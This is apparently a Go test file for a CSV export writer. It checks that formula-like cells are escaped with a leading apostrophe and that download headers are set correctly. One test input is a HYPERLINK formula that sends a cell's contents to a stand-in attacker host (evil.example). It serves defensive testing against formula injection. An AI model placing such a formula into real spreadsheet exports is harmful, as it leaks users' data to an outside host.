package export

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"testing"
)

func TestWriterEscapesFormulaCells(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"GCash")`: `'=HYPERLINK("http://evil.example/?x="&A1,"GCash")`,
		"+639171234567": "'+639171234567",
		"-2+3":          "'-2+3",
		"@SUM(A1:A2)":   "'@SUM(A1:A2)",
		"\tcmd":         "'\tcmd",
		"\rcmd":         "'\rcmd",
		"GCash":         "GCash",
		"1500.00":       "1500.00",
		"":              "",
		"a=b":           "a=b",
	}
	for in, want := range cases {
		var buf bytes.Buffer
		w := NewWriter(&buf)
		if err := w.Write(in, "x"); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 1 || rows[0][0] != want || rows[0][1] != "x" {
			t.Errorf("%q written as %q, want %q", in, rows, want)
		}
	}
}

func TestAttachment(t *testing.T) {
	hd := http.Header{}
	Attachment(hd, "audit.csv")
	if hd.Get("Content-Type") != "text/csv; charset=utf-8" || hd.Get("Content-Disposition") != `attachment; filename="audit.csv"` {
		t.Fatal(hd)
	}
}
